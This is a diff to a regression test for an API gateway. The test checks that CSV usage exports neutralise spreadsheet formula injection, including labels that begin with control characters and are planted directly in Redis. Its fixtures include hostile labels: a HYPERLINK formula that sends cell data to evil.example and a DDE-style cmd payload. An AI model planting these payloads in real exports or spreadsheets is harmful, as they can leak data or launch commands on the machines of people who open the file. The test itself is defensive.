@@ -1,4 +1,4 @@
-import { execFile } from 'node:child_process';
+import { execFile, execFileSync } from 'node:child_process';
 import { existsSync, readdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
@@ -7,18 +7,25 @@ import { adminCall } from '../helpers/admin.js';
 import { ManualClock } from '../helpers/clock.js';
 import { NOW } from '../helpers/fixtures.js';
 import { startGateway } from '../helpers/gateway.js';
+import { startRedis } from '../helpers/redis.js';
 
 const run = promisify(execFile);
 const SOFFICE = ['/usr/bin/soffice', '/usr/lib/libreoffice/program/soffice'].find((p) => existsSync(p));
 const SIMPLE = '/fuel-api/api/simple-current.php';
 
 // Labels a spreadsheet would read as formulas (OWASP "CSV injection"), and a harmless one.
-const HOSTILE = [
-  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
-  "+cmd|' /C calc'!A0",
-  '@SUM(1+1)',
-  '-2+3',
-  '=1+1',
+const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '=1+1'];
+
+// Labels behind a leading control character (NUL, and the rest of C0 and DEL): LibreOffice drops
+// the control character and reads the rest as a formula. The admin API now refuses such labels,
+// so the test plants them straight into Redis, as a label stored before that check would be.
+const PLANTED = [
+  '\u0000=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+  '\u0000=1+1',
+  '\u0001+1+1',
+  '\u001f@SUM(1+1)',
+  '\u007f-2+3',
+  '\u0000 =1+1',
   '\t=1+1',
   '\r=1+1',
 ];
@@ -30,7 +37,17 @@ async function asSheet(dir: string, name: string, csv: string): Promise<string> 
   const profile = `file://${join(dir, 'lo-profile')}`;
   await run(
     SOFFICE as string,
-    [`-env:UserInstallation=${profile}`, '--headless', '--convert-to', 'xlsx', '--outdir', dir, file],
+    [
+      `-env:UserInstallation=${profile}`,
+      '--headless',
+      // Comma, double quote, UTF-8, from row 1: how an operator imports the export.
+      '--infilter=CSV:44,34,76,1',
+      '--convert-to',
+      'xlsx',
+      '--outdir',
+      dir,
+      file,
+    ],
     { timeout: 240_000, env: { ...process.env, HOME: dir } },
   );
   const xlsx = join(dir, `${name}.xlsx`);
@@ -48,14 +65,26 @@ t.test(
     timeout: 600_000,
   },
   async (t) => {
-    const gw = await startGateway(t, {}, { clock: new ManualClock(NOW) });
+    const redis = await startRedis(t);
+    const gw = await startGateway(
+      t,
+      { store: { type: 'redis', redis: { url: redis.url } } },
+      { clock: new ManualClock(NOW) },
+    );
     const ids: string[] = [];
-    for (const label of [...HOSTILE, 'Acme, "Fleet"']) {
+    for (const label of [...HOSTILE, 'Acme, "Fleet"', ...PLANTED.map((_, i) => `planted ${i}`)]) {
       const made = await adminCall(gw, 'POST', '/admin/accounts', { plan: 'starter', label });
       t.equal(made.status, 201);
       ids.push(made.body.account.id);
       t.equal((await gw.get(`${SIMPLE}?api_key=${made.body.api_key}`)).status, 200);
     }
+    // redis-cli -x takes the last argument from stdin, byte for byte: argv cannot carry a NUL.
+    PLANTED.forEach((label, i) => {
+      const id = ids[HOSTILE.length + 1 + i];
+      execFileSync('redis-cli', ['-p', String(redis.port), '-x', 'HSET', `fpg:{acct:${id}}:account`, 'label'], {
+        input: label,
+      });
+    });
     const day = new Date(NOW + 2 * 3600_000).toISOString().slice(0, 10);
     const dir = t.testdir();
     for (const path of ['/admin/usage', '/admin/usage/periods']) {
@@ -71,10 +100,17 @@ t.test(
       t.notMatch(sheet, /<f[ >]/, `${path}: no cell is a formula`);
       t.match(sheet, /Acme, &quot;Fleet&quot;|Acme, "Fleet"/, `${path}: a harmless label is kept as it is`);
       t.match(sheet, /(&apos;|')=HYPERLINK\(/, `${path}: a hostile one is text, with the quote in front`);
+      for (const label of PLANTED) {
+        const cell = `,"'${label.replaceAll('"', '""')}",`;
+        t.ok(
+          rows.some((r) => r.includes(cell)),
+          `${path}: ${JSON.stringify(label)} is quoted, with ' in front`,
+        );
+      }
     }
     t.same(readdirSync(dir).filter((f) => f.endsWith('.xlsx')).length, 2, 'both exports were converted');
     const json = await adminCall(gw, 'GET', `/admin/usage?from=${day}&to=${day}&format=json`);
     const labels = (json.body.rows as Array<{ label: string }>).map((r) => r.label).sort();
-    t.same(labels, [...HOSTILE, 'Acme, "Fleet"'].sort(), 'JSON keeps every label exactly');
+    t.same(labels, [...HOSTILE, 'Acme, "Fleet"', ...PLANTED].sort(), 'JSON keeps every label exactly');
   },
 );
